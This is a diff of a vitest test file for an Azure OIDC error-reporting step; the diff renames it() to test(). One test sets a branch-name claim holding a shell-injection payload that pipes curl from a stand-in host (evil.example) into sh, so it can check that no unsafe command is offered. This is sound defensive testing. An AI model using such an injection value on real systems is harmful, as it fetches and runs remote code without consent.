@@ -1,9 +1,9 @@
-import { expect, it } from 'vitest';
+import { expect, test } from 'vitest';
 import { openScenario } from '../../support/scenario.ts';
 
 const { azure, step } = await openScenario();
 
-it.each([
+test.each([
   ['AADSTS700213', false],
   ['AADSTS70021', true],
 ])("shows the ID token's claims and the command that adds them (%s)", async (code, olderWording) => {
@@ -29,7 +29,7 @@ it.each([
   expect(error).toContain("The job names the environment 'prod'");
 });
 
-it('offers no command for a branch whose name a shell would read', async () => {
+test('offers no command for a branch whose name a shell would read', async () => {
   azure.identity.idTokenClaims = { sub: "repo:octo/churn:ref:refs/heads/x';curl evil.example|sh;'" };
   const { error } = await step();
 
